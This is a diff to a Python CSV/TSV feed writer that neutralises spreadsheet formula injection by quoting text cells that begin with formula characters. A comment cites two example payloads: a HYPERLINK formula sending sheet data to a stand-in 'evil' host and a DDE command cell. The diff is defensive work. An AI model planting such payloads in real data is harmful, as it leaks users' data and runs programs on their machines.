@@ -24,8 +24,29 @@ from .words import say
 G_NS = "http://base.google.com/ns/1.0"
 
 
+# A spreadsheet (Excel, LibreOffice, Google Sheets) opening a CSV or TSV runs a cell starting with one of
+# these as a formula: `=HYPERLINK("http://evil/?"&A1)` sends the sheet's data away, `+1+cmd|...` (DDE) runs a
+# program. Record text is typed or imported by anyone, so every such cell is neutralised.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralised(value: Any) -> Any:
+    """A text cell that a spreadsheet would read as a formula, made plain text the way OWASP recommends.
+
+    A single quote in front makes the spreadsheet show the text as typed (and is not shown by Excel);
+    the csv writer then quotes the cell and doubles its inner quotes where the format needs it. Numbers
+    are left alone: they are never negative here (prices, scores, stars), and a number is not a formula.
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def table(delimiter: str = ",", cell: Callable[[Any], Any] | None = None) -> Writer:
-    """CSV (or TSV with delimiter "\\t"); `cell` tidies every value (e.g. no tabs in a TSV)."""
+    """CSV (or TSV with delimiter "\\t"); `cell` tidies every value (e.g. no tabs in a TSV).
+
+    Every text cell is neutralised against formula injection (see `neutralised`), whatever the format.
+    """
 
     def write(feed: Feed, rows: Iterable[Any], run: Run) -> bytes:
         columns = feed.format.columns
@@ -33,10 +54,8 @@ def table(delimiter: str = ",", cell: Callable[[Any], Any] | None = None) -> Wri
         buf = io.StringIO()
         w = csv.writer(buf, delimiter=delimiter, lineterminator="\n", quoting=csv.QUOTE_MINIMAL)
         w.writerow([c.name for c in columns])
-        if cell is None:
-            w.writerows([[get(r) for get in getters] for r in rows])
-        else:
-            w.writerows([[cell(get(r)) for get in getters] for r in rows])
+        tidy = cell or (lambda v: v)
+        w.writerows([[neutralised(tidy(get(r))) for get in getters] for r in rows])
         return buf.getvalue().encode("utf-8")
 
     return write
